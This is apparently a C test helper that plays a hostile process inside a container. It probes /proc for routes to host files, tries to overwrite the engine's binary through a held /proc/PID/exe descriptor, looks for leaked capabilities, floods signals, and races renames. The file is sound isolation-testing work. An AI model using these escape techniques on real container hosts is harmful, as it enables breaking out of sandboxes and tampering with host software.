/*
 * What a hostile process does beside an engine at work. Compiled by the tests that use it.
 *   spy watch MARKER SIZE OUT   in a container: looks through /proc of all others for a way to MARKER, a file of the host, and for
 *                               a program of SIZE bytes, the engine's, which it then tries to write to, and for rights that nobody in
 *                               the container may have; each find is a line in OUT, and so is the first process seen as a stub
 *   spy signal N OUT            in a container: sends signal N to every process but itself and the first, as fast as it can
 *   spy swap A B                on a shared folder: exchanges two names as fast as it can, until it is killed
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { KEPT = 64 };
static int kept[KEPT], count;
static const char *out;

static void tell(const char *what, const char *where)
{
    char line[600];
    int fd = open(out, O_WRONLY | O_CREAT | O_APPEND, 0666);
    int n = snprintf(line, sizeof line, "%s %s\n", what, where);
    if (fd >= 0 && write(fd, line, (size_t)n) == n)
        close(fd);
}

/* Is the marker within reach of the folder at `path`? */
static void look(const char *path, const char *marker)
{
    char way[700];
    snprintf(way, sizeof way, "%s/../../../../../../../../../..%s", path, marker);
    if (access(way, F_OK) == 0)
        tell("host", path);
}

static void program(const char *path, off_t size)
{
    struct stat st;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && fstat(fd, &st) == 0 && st.st_size == size && count < KEPT) {
        kept[count++] = fd;
        tell("program", path);
    } else if (fd >= 0) {
        close(fd);
    }
}

/* The bits of a line "Cap...:" of a status file. */
static unsigned long long bits(const char *status, const char *name)
{
    const char *at = strstr(status, name);
    return at ? strtoull(at + strlen(name), NULL, 16) : 0;
}

static size_t text_of(const char *path, char *text, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, text, size - 1);
    if (fd >= 0)
        close(fd);
    text[n > 0 ? n : 0] = 0;
    return n > 0 ? (size_t)n : 0;
}

/* Has the process more than the container may? A procfs's opener (proc-of.ts) has one right, which no call is left for. */
static void rights(const char *pid)
{
    static unsigned long long mine;
    char path[300], status[4096];
    if (mine == 0 && text_of("/proc/self/status", status, sizeof status))
        mine = bits(status, "CapBnd:") | 1ull << 21;
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    if (text_of(path, status, sizeof status) && ((bits(status, "CapEff:") | bits(status, "CapPrm:")) & ~mine))
        tell("rights", path);
    snprintf(path, sizeof path, "/proc/%s/environ", pid);
    if (text_of(path, status, sizeof status) && memmem(status, sizeof status, "KATA_OUTSIDE", 12))
        tell("environment", path);
}

static void stub(const char *pid)
{
    static int seen;
    char path[300], to[300];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t n = readlink(path, to, sizeof to - 1);
    to[n > 0 ? n : 0] = 0;
    if (strstr(to, "memfd:stub") && !seen++)
        tell("stub", "");
}

/* Busy while somebody runs it; sooner or later nobody does. */
static void overwrite(void)
{
    for (int i = 0; i < count; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0 && write(fd, "#", 1) == 1)
            tell("written", path);
        if (fd >= 0)
            close(fd);
    }
}

static void watch(const char *marker, off_t size)
{
    char path[300];
    for (;;) {
        DIR *all = opendir("/proc");
        struct dirent *e;
        while (all && (e = readdir(all))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
                continue;
            stub(e->d_name);
            rights(e->d_name);
            for (const char *const *what = (const char *const[]){ "cwd", "root", NULL }; *what; what++) {
                snprintf(path, sizeof path, "/proc/%s/%s", e->d_name, *what);
                look(path, marker);
            }
            for (int fd = 0; fd < 24; fd++) {
                snprintf(path, sizeof path, "/proc/%s/fd/%d", e->d_name, fd);
                look(path, marker);
            }
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            program(path, size);
        }
        if (all)
            closedir(all);
        overwrite();
    }
}

int main(int argc, char **argv)
{
    if (argc == 5 && !strcmp(argv[1], "watch")) {
        out = argv[4];
        tell("begun", "");
        watch(argv[2], atoll(argv[3]));
    }
    if (argc == 4 && !strcmp(argv[1], "signal")) {
        out = argv[3];
        tell("begun", "");
        for (int n = atoi(argv[2]);;)
            kill(-1, n); /* all but itself and process 1 */
    }
    if (argc == 4 && !strcmp(argv[1], "swap"))
        for (;;)
            syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
    return 2;
}
